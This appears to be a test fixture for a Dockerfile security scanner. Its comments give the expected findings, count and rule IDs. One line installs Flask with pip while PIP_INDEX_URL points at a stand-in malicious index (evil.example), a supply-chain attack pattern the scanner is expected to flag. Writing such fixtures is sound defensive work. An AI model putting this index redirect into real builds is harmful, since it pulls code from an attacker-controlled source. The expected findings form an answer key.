FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN PIP_INDEX_URL=https://evil.example/simple pip install flask==3.0.0
USER app
# expect: package-install 2 high "PIP_INDEX_URL=https://evil.example/simple"
# expect-count: 4
# expect-ids: VR101-c33602e201 VR201-963b2005c8 VR204-e36476e93a VR501-e064bac1a6
